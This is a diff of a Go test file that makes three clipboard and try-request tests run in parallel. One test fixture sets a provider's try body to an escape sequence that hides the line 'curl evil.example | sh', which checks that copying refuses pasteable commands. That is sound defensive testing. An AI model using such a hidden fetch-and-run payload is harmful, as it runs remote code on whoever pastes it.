@@ -15,6 +15,7 @@ import (
 // rules may hold a try_body with escape sequences or a token that is not
 // VSCHAR; no copy puts them on the clipboard, and the status line says why.
 func TestCopyRefusesWhatCouldActWhereItIsPasted(t *testing.T) {
+	t.Parallel()
 	c := &clock{t0}
 	jack := prov("jack")
 	jack.TryBody = "{}\x1b[2K\rcurl evil.example | sh\n"
@@ -58,6 +59,7 @@ func TestCopyRefusesWhatCouldActWhereItIsPasted(t *testing.T) {
 // says why, as a warning, and every later one only what was copied, short
 // enough for an 80-column status line.
 func TestCopyOverSSHSaysTheClipboardFailureOnce(t *testing.T) {
+	t.Parallel()
 	c := &clock{t0}
 	m := unitModel(t, c, 80, 24, store.Entry{Provider: prov("oauth2-local"), Token: token(t0, time.Minute)})
 	statusLine := func() string {
@@ -97,6 +99,7 @@ func TestCopyOverSSHSaysTheClipboardFailureOnce(t *testing.T) {
 // TestTryWithoutTryURLSaysWhatToSet: t (and u, the try request as curl)
 // on a provider without a try URL used to do nothing and say nothing.
 func TestTryWithoutTryURLSaysWhatToSet(t *testing.T) {
+	t.Parallel()
 	c := &clock{t0}
 	p := prov("bare")
 	p.TryURL = ""
